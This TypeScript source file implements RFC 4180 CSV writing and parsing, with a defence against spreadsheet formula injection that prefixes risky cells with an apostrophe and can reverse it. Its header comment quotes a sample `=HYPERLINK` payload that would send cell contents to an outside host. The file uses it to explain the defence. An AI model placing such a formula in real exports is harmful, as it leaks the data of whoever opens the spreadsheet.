// RFC 4180 CSV: CRLF between records, a field quoted when it holds a comma, a double quote or a
// line break, and double quotes inside doubled. The reader accepts LF endings too.
//
// Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that begins with `=`, `+`,
// `-`, `@`, a tab or a carriage return as a formula, so a third party's label such as
// `=HYPERLINK("http://…?leak="&A1,"x")` could leak cells or start a command when an export is opened.
// `escapeFormula` puts an apostrophe before such a cell; spreadsheets take a leading apostrophe as
// "this is text" and do not show it. A cell that already begins with an apostrophe followed by one
// of those characters (or by another apostrophe) gets one too, so `unescapeFormula` can remove
// exactly one apostrophe and every string comes back as it was: the import reads its own export back
// to the original text. Other cells, including `'Tis` or `don't`, are left alone both ways.

const FORMULA_START = new Set(["=", "+", "-", "@", "\t", "\r"]);

const needsApostrophe = (value: string) =>
  FORMULA_START.has(value.charAt(0)) ||
  (value.charAt(0) === "'" && (FORMULA_START.has(value.charAt(1)) || value.charAt(1) === "'"));

/** The cell as a spreadsheet will not run it (see above). */
export function escapeFormula(value: string): string {
  return needsApostrophe(value) ? `'${value}` : value;
}

/** The text `escapeFormula` was given. */
export function unescapeFormula(cell: string): string {
  return cell.charAt(0) === "'" && needsApostrophe(cell.slice(1)) ? cell.slice(1) : cell;
}

export function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

export function toCsv(header: readonly string[], rows: readonly (readonly string[])[]): string {
  return (
    [header, ...rows].map((row) => row.map((cell) => csvField(escapeFormula(cell))).join(",")).join("\r\n") + "\r\n"
  );
}

export type CsvParse = { ok: true; rows: string[][] } | { ok: false; line: number; message: string };

export function parseCsv(text: string): CsvParse {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  let line = 1;
  let openedAt = 0;
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  const endField = () => {
    row.push(field);
    field = "";
  };
  for (; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else {
        if (c === "\n") line++;
        field += c;
      }
    } else if (c === '"' && field === "") {
      quoted = true;
      openedAt = line;
    } else if (c === ",") endField();
    else if (c === "\r" || c === "\n") {
      if (c === "\r" && text[i + 1] === "\n") i++;
      endField();
      rows.push(row);
      row = [];
      line++;
    } else field += c;
  }
  if (quoted) return { ok: false, line: openedAt, message: "a quoted field is never closed" };
  if (field !== "" || row.length) {
    endField();
    rows.push(row);
  }
  return { ok: true, rows };
}
